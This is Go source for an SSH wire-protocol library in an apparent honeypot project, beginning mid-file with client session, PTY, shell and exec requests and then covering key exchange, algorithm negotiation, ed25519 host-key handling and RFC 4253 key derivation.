func (c *ClientConn) OpenSession() (*Channel, error) {
	if c.mux == nil {
		return nil, errors.New("sshwire: connection not authenticated")
	}
	ch := c.mux.newChannel()
	b := wire.NewBuilder(64)
	b.Byte(msgChannelOpen).Text(channelTypeSession).Uint32(ch.localID).
		Uint32(defaultWindow).Uint32(defaultMaxPacket)
	if err := c.t.writePacket(b.Bytes()); err != nil {
		return nil, err
	}
	select {
	case ok := <-ch.replyCh:
		if !ok {
			return nil, errors.New("sshwire: session channel open rejected")
		}
		return ch, nil
	case <-c.mux.done:
		return nil, c.mux.errLocked()
	}
}

// RequestPTY asks for a pseudo-terminal on the session channel.
func RequestPTY(ch *Channel, term string, cols, rows uint32) error {
	ok, err := ch.SendRequest("pty-req", true, func(b *wire.Builder) {
		b.Text(term).Uint32(cols).Uint32(rows).Uint32(0).Uint32(0).Text("")
	})
	if err != nil {
		return err
	}
	if !ok {
		return errors.New("sshwire: pty-req rejected")
	}
	return nil
}

// RequestShell starts an interactive shell on the session channel.
func RequestShell(ch *Channel) error {
	ok, err := ch.SendRequest("shell", true, nil)
	if err != nil {
		return err
	}
	if !ok {
		return errors.New("sshwire: shell request rejected")
	}
	return nil
}

// RequestExec runs a single command on the session channel.
func RequestExec(ch *Channel, command string) error {
	ok, err := ch.SendRequest("exec", true, func(b *wire.Builder) {
		b.Text(command)
	})
	if err != nil {
		return err
	}
	if !ok {
		return errors.New("sshwire: exec request rejected")
	}
	return nil
}

// Close tears down the connection.
func (c *ClientConn) Close() error {
	c.t.sendDisconnect(disconnectByApplication, "closed")
	return c.t.Close()
}
