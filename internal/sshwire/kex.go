package sshwire

import (
	"crypto/ecdh"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"

	"honeyfarm/internal/wire"
)

// kexInit is the parsed form of SSH_MSG_KEXINIT.
type kexInit struct {
	cookie                [16]byte
	kexAlgos              []string
	hostKeyAlgos          []string
	ciphersC2S            []string
	ciphersS2C            []string
	macsC2S               []string
	macsS2C               []string
	compressionC2S        []string
	compressionS2C        []string
	languagesC2S          []string
	languagesS2C          []string
	firstKexPacketFollows bool

	raw []byte // the full payload including the message byte, for the exchange hash
}

// defaultKexAlgos and defaultHostKeyAlgos are the full supported suites
// in preference order.
func defaultKexAlgos() []string { return []string{algoKex, algoKexLibC, algoKexDH14} }

func defaultHostKeyAlgos() []string { return []string{algoHostKey, algoHostKeyRSA} }

func localKexInit(kexAlgos, hostKeyAlgos []string) *kexInit {
	if kexAlgos == nil {
		kexAlgos = defaultKexAlgos()
	}
	if hostKeyAlgos == nil {
		hostKeyAlgos = defaultHostKeyAlgos()
	}
	k := &kexInit{
		kexAlgos:       kexAlgos,
		hostKeyAlgos:   hostKeyAlgos,
		ciphersC2S:     []string{algoCipher},
		ciphersS2C:     []string{algoCipher},
		macsC2S:        []string{algoMAC},
		macsS2C:        []string{algoMAC},
		compressionC2S: []string{algoNone},
		compressionS2C: []string{algoNone},
	}
	if _, err := rand.Read(k.cookie[:]); err != nil {
		panic(fmt.Sprintf("sshwire: reading random cookie: %v", err))
	}
	return k
}

func (k *kexInit) marshal() []byte {
	b := wire.NewBuilder(256)
	b.Byte(msgKexInit)
	b.Raw(k.cookie[:])
	b.NameList(k.kexAlgos)
	b.NameList(k.hostKeyAlgos)
	b.NameList(k.ciphersC2S)
	b.NameList(k.ciphersS2C)
	b.NameList(k.macsC2S)
	b.NameList(k.macsS2C)
	b.NameList(k.compressionC2S)
	b.NameList(k.compressionS2C)
	b.NameList(k.languagesC2S)
	b.NameList(k.languagesS2C)
	b.Bool(k.firstKexPacketFollows)
	b.Uint32(0) // reserved
	k.raw = append([]byte(nil), b.Bytes()...)
	return k.raw
}

func parseKexInit(payload []byte) (*kexInit, error) {
	if len(payload) < 1 || payload[0] != msgKexInit {
		return nil, errors.New("sshwire: expected KEXINIT")
	}
	k := &kexInit{raw: append([]byte(nil), payload...)}
	r := wire.NewReader(payload[1:])
	copy(k.cookie[:], r.Bytes(16))
	k.kexAlgos = r.NameList()
	k.hostKeyAlgos = r.NameList()
	k.ciphersC2S = r.NameList()
	k.ciphersS2C = r.NameList()
	k.macsC2S = r.NameList()
	k.macsS2C = r.NameList()
	k.compressionC2S = r.NameList()
	k.compressionS2C = r.NameList()
	k.languagesC2S = r.NameList()
	k.languagesS2C = r.NameList()
	k.firstKexPacketFollows = r.Bool()
	r.Uint32()
	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("sshwire: parsing KEXINIT: %w", err)
	}
	return k, nil
}

// negotiate picks the first client algorithm present in the server list
// (RFC 4253 §7.1).
func negotiate(client, server []string, what string) (string, error) {
	for _, c := range client {
		for _, s := range server {
			if c == s {
				return c, nil
			}
		}
	}
	return "", fmt.Errorf("sshwire: no common %s algorithm (client %v, server %v)", what, client, server)
}

// checkNegotiation validates that every algorithm class has a common
// choice within our single-suite implementation.
func checkNegotiation(clientInit, serverInit *kexInit) error {
	pairs := []struct {
		c, s []string
		what string
	}{
		{clientInit.kexAlgos, serverInit.kexAlgos, "kex"},
		{clientInit.hostKeyAlgos, serverInit.hostKeyAlgos, "host key"},
		{clientInit.ciphersC2S, serverInit.ciphersC2S, "cipher c2s"},
		{clientInit.ciphersS2C, serverInit.ciphersS2C, "cipher s2c"},
		{clientInit.macsC2S, serverInit.macsC2S, "mac c2s"},
		{clientInit.macsS2C, serverInit.macsS2C, "mac s2c"},
		{clientInit.compressionC2S, serverInit.compressionC2S, "compression c2s"},
		{clientInit.compressionS2C, serverInit.compressionS2C, "compression s2c"},
	}
	for _, p := range pairs {
		if _, err := negotiate(p.c, p.s, p.what); err != nil {
			return err
		}
	}
	return nil
}

// hostKeyBlob marshals an ed25519 public key in ssh-ed25519 wire format
// (RFC 8709 §4).
func hostKeyBlob(pub ed25519.PublicKey) []byte {
	b := wire.NewBuilder(64)
	b.Text(algoHostKey)
	b.String(pub)
	return b.Bytes()
}

// parseHostKeyBlob extracts the ed25519 public key from a host key blob.
func parseHostKeyBlob(blob []byte) (ed25519.PublicKey, error) {
	r := wire.NewReader(blob)
	if algo := r.Text(); algo != algoHostKey {
		return nil, fmt.Errorf("sshwire: unsupported host key algorithm %q", algo)
	}
	key := r.String()
	if r.Err() != nil || len(key) != ed25519.PublicKeySize {
		return nil, errors.New("sshwire: malformed ssh-ed25519 host key blob")
	}
	return ed25519.PublicKey(append([]byte(nil), key...)), nil
}

// signatureBlob marshals an ed25519 signature in SSH wire format
// (RFC 8709 §6).
func signatureBlob(sig []byte) []byte {
	b := wire.NewBuilder(96)
	b.Text(algoHostKey)
	b.String(sig)
	return b.Bytes()
}

func parseSignatureBlob(blob []byte) ([]byte, error) {
	r := wire.NewReader(blob)
	if algo := r.Text(); algo != algoHostKey {
		return nil, fmt.Errorf("sshwire: unsupported signature algorithm %q", algo)
	}
	sig := r.String()
	if r.Err() != nil || len(sig) != ed25519.SignatureSize {
		return nil, errors.New("sshwire: malformed ssh-ed25519 signature blob")
	}
	return append([]byte(nil), sig...), nil
}

// exchangeHash computes H for curve25519-sha256 (RFC 5656 §4, RFC 8731).
func exchangeHash(clientVersion, serverVersion string, clientKexInit, serverKexInit, hostKey, qC, qS, sharedSecret []byte) []byte {
	b := wire.NewBuilder(1024)
	b.Text(clientVersion)
	b.Text(serverVersion)
	b.String(clientKexInit)
	b.String(serverKexInit)
	b.String(hostKey)
	b.String(qC)
	b.String(qS)
	b.MPIntBytes(sharedSecret)
	sum := sha256.Sum256(b.Bytes())
	return sum[:]
}

// deriveKey produces key material per RFC 4253 §7.2:
// K1 = HASH(K || H || letter || session_id); Kn = HASH(K || H || K1..Kn-1).
func deriveKey(sharedSecret, exchangeHash, sessionID []byte, letter byte, length int) []byte {
	km := wire.NewBuilder(64)
	km.MPIntBytes(sharedSecret)
	kPrefix := append([]byte(nil), km.Bytes()...)

	h := sha256.New()
	h.Write(kPrefix)
	h.Write(exchangeHash)
	h.Write([]byte{letter})
	h.Write(sessionID)
	out := h.Sum(nil)
	for len(out) < length {
		h = sha256.New()
		h.Write(kPrefix)
		h.Write(exchangeHash)
		h.Write(out)
		out = h.Sum(out)
	}
	return out[:length]
}

// deriveDirection builds one direction's keys. clientToServer selects the
// letter set ('A','C','E' for client→server; 'B','D','F' for the reverse).
func deriveDirection(sharedSecret, h, sessionID []byte, clientToServer bool) keys {
	ivL, keyL, macL := byte('A'), byte('C'), byte('E')
	if !clientToServer {
		ivL, keyL, macL = 'B', 'D', 'F'
	}
	return keys{
		iv:     deriveKey(sharedSecret, h, sessionID, ivL, aesBlockSize),
		key:    deriveKey(sharedSecret, h, sessionID, keyL, 16), // aes128
		macKey: deriveKey(sharedSecret, h, sessionID, macL, sha256.Size),
	}
}

// generateECDH creates an ephemeral X25519 key pair.
func generateECDH() (*ecdh.PrivateKey, error) {
	return ecdh.X25519().GenerateKey(rand.Reader)
}

// ecdhShared computes the X25519 shared secret with the peer's public
// point.
func ecdhShared(priv *ecdh.PrivateKey, peerPoint []byte) ([]byte, error) {
	pub, err := ecdh.X25519().NewPublicKey(peerPoint)
	if err != nil {
		return nil, fmt.Errorf("sshwire: invalid peer curve25519 point: %w", err)
	}
	secret, err := priv.ECDH(pub)
	if err != nil {
		return nil, fmt.Errorf("sshwire: computing shared secret: %w", err)
	}
	return secret, nil
}
